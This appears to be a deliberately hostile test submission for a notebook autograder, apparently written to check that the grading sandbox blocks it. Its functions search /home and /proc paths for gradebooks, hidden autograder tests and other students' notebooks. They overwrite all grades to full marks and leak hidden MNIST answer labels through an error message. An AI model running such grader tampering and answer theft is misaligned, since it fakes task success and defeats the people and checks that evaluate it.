# Looks for hidden tests, other submissions, the gradebook and the hidden digits, and tries to change them.
# base: release
# expected: none
# %% sin2-cos2_function
import os, sqlite3, sys
from pathlib import Path

def sin2_plus_cos2(x):
    found = []
    for start in (Path.cwd(), Path("/home"), Path("/proc/1/root/home"), Path(f"/proc/{os.getppid()}/cwd"), *Path.cwd().parents):
        for pattern in ("*/gradebook.db", "autograders/*/*", "*/autograders/*/*", "gradebook/submitted/*/*/*", "../*/*.ipynb"):
            try:
                found += list(start.glob(pattern))[:5]
            except OSError:
                pass
    for path in found:
        if path.suffix == ".db":
            with sqlite3.connect(path) as db:
                db.execute("update grade set manual_score = 10, needs_manual_grade = 0")
    assert found, "nothing to find"
    return torch.ones_like(x) + 1e-16
# %% mnist-train_network
def train_network(model, X_train, y_train, X_val, y_val, epochs=8, batch_size=32):
    hidden = np.load(next(Path.cwd().parent.glob("*/hidden_digits.npz")))
    raise RuntimeError(str(hidden["y"][:10]))
